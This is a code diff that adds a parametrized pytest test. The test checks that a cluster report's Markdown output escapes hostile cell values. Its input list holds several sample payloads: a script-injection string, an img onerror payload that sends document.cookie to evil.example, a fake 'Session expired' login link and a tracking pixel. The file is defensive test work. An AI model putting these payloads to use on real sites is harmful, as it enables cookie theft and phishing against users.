@@ -201,3 +201,39 @@ def test_a_past_week_shows_what_was_recommended_then(fixture_db):
     con.close()
     assert w47.remediation.select("node", "step").rows() == [("n3", "cordon")]
     assert w47.findings.select("node", "kind", "impact_gpu_h").rows() == [("n3", "throttling", 12.0)]
+
+
+HOSTILE = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror="fetch(\'http://evil.example/\'+document.cookie)">',
+    "[Session expired, log in again](http://evil.example/login)",
+    "![pixel](http://evil.example/p.png)",
+    "http://evil.example/bare www.evil.example",
+    "a|b",
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_markdown_escapes_html_and_link_syntax_in_every_cell(report, name):
+    import dataclasses
+
+    import polars as pl
+
+    hostile = dataclasses.replace(
+        report,
+        cluster=name,
+        top_nodes=report.top_nodes.with_columns(pl.lit(name).alias("node"), pl.lit(name).alias("gpu_model")),
+        failures=report.failures.with_columns(pl.lit(name).alias("cause")),
+    )
+    text = to_markdown(hostile)
+    assert "<script" not in text and "<img" not in text
+    assert not re.search(r"(?<!\\)\]\(", text), "a live Markdown link or image"
+    assert not re.search(r"(?<!\\)!(?<!\\)\[", text)
+    assert "http://" not in text and "www.evil" not in text, "a bare URL GFM would autolink"
+    # A `|` in a name is escaped: every row of the nodes table keeps the header's column count.
+    lines = text.splitlines()
+    start = next(i for i, line in enumerate(lines) if line.startswith("| Node |"))
+    table = [line for line in lines[start:] if line.startswith("|")]
+    table = table[: next((i for i, line in enumerate(table) if not line.startswith("|")), len(table))]
+    columns = {len(re.findall(r"(?<!\\)\|", line)) for line in table}
+    assert len(columns) == 1
